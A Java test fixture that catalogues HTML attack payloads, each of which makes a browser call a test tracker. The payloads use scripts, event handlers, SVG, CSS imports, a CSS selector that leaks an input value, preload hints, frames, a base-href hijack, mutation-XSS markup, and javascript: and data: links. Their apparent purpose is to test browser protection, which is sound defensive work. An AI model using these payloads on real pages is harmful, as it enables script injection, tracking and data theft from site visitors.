package dev.restante.server.browser;

import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * HTML that tries to tell a tracker that it is read, or to run, each way under a path of its own.
 *
 * @param name what it tries
 * @param html the body, in which {@code {t}} stands for the tracker with a slash at its end
 * @param calls the paths that a browser without protection asks for by itself
 * @param clicked the labels of what a reader may click, with which more would be asked for
 */
public record Attack(String name, String html, Set<String> calls, List<String> clicked) {

    private static final String CALL = "fetch('{t}%s')";

    /** Nothing here is made up: a test shows that each does what it says where nothing holds it. */
    public static final List<Attack> ALL = List.of(
            of(
                    "scripts",
                    "<script>" + CALL.formatted("inline") + "</script><script src='{t}src'></script>"
                            + "<script type='module' src='{t}module'></script>",
                    "inline",
                    "src",
                    "module"),
            of(
                    "event handlers",
                    "<img src='data:,' onerror=\"" + CALL.formatted("onerror") + "\">"
                            + "<svg onload=\"" + CALL.formatted("svg-onload") + "\"></svg>"
                            + "<input autofocus onfocus=\"" + CALL.formatted("onfocus") + "\">"
                            + "<details open ontoggle=\"" + CALL.formatted("ontoggle") + "\"><p>x</p></details>"
                            + "<video><source onerror=\"" + CALL.formatted("source-onerror")
                            + "\" src='data:,'></video>",
                    "onerror",
                    "svg-onload",
                    "onfocus",
                    "ontoggle",
                    "source-onerror"),
            of(
                    "SVG",
                    "<svg><script>" + CALL.formatted("svg-script") + "</script>"
                            + "<image href='{t}svg-image' width='9' height='9'/>"
                            + "<filter id='f'><feImage href='{t}fe-image'/></filter>"
                            + "<rect width='9' height='9' filter='url(#f)'/><animate onbegin=\""
                            + CALL.formatted("onbegin") + "\" attributeName='x' dur='1s'/></svg>",
                    "svg-script",
                    "svg-image",
                    "fe-image",
                    "onbegin"),
            of(
                    "images",
                    "<img src='{t}src'><img srcset='{t}srcset 1x'><picture><source srcset='{t}source'><img></picture>"
                            + "<input type='image' src='{t}input'><table background='{t}background'><tr><td>x</table>",
                    "src",
                    "srcset",
                    "source",
                    "input",
                    "background"),
            of(
                    "media",
                    "<video src='{t}video' poster='{t}poster'></video><audio src='{t}audio' preload='auto'></audio>"
                            + "<object data='{t}object'></object><embed src='{t}embed'>",
                    "video",
                    "poster",
                    "audio",
                    "object",
                    "embed"),
            of(
                    "styles",
                    "<style>@import url('{t}import');body{background:url('{t}url')}"
                            + "@font-face{font-family:f;src:url('{t}font')}p{font-family:f}"
                            + "input[value^='s']{background:u\\72l('{t}selector')}"
                            + "li{list-style-image:image-set('{t}image-set' 1x)}p:before{content:url('{t}content')}</style>"
                            + "<link rel='stylesheet' href='{t}link'><p>x</p><ul><li>x</ul><input value='secret'>"
                            + "<p style=\"background-image:url('{t}attribute')\">x</p>",
                    "import",
                    "url",
                    "font",
                    "selector",
                    "image-set",
                    "content",
                    "link",
                    "attribute"),
            of(
                    "hints",
                    "<link rel='preload' as='image' href='{t}preload'><link rel='modulepreload' href='{t}modulepreload'>"
                            + "<link rel='icon' href='{t}icon'><link rel='prefetch' href='{t}prefetch'>"
                            + "<link rel='preconnect' href='{t}'><link rel='dns-prefetch' href='{t}'>",
                    "preload",
                    "modulepreload",
                    "prefetch"),
            of(
                    "frames",
                    "<iframe src='{t}iframe'></iframe>"
                            + "<iframe srcdoc=\"<img src='{t}srcdoc'><script>parent.alert(1)</script>\"></iframe>",
                    "iframe",
                    "srcdoc"),
            of(
                    "another base",
                    "<base href='{t}'><img src='based'><link rel='stylesheet' href='styles'>",
                    "based",
                    "styles"),
            of("a refresh", "<meta http-equiv='refresh' content='0;url={t}refresh'>", "refresh"),
            of(
                    "markup that parsers disagree on",
                    "<noscript><p title=\"</noscript><img src='{t}noscript'>\"></noscript>"
                            + "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src='{t}math'&gt;\"></table></math>"
                            + "<!--><img src='{t}comment'>--><svg></p><style><a id=\"</style><img src='{t}style'>\">"
                            + "<template shadowrootmode='open'><img src='{t}shadow'></template>",
                    "comment",
                    "style"),
            new Attack(
                    "clicks",
                    "<a href=\"javascript:" + CALL.formatted("javascript") + "\">A link</a>"
                            + "<a href=\"data:text/html,<script>" + CALL.formatted("data") + "</script>\">Data</a>"
                            + "<form action='{t}form'><input name='a' value='b'><button>Send</button></form>",
                    Set.of(),
                    List.of("A link", "Data", "Send")));

    private static Attack of(String name, String html, String... calls) {
        return new Attack(name, html, Stream.of(calls).collect(Collectors.toSet()), List.of());
    }

    /** The document that calls this tracker. */
    public String document(CountingServer tracker) {
        return "<!doctype html><html><head></head><body><p>Read me</p>%s</body></html>"
                .formatted(html.replace("{t}", tracker.url()));
    }

    @Override
    public String toString() {
        return name;
    }
}
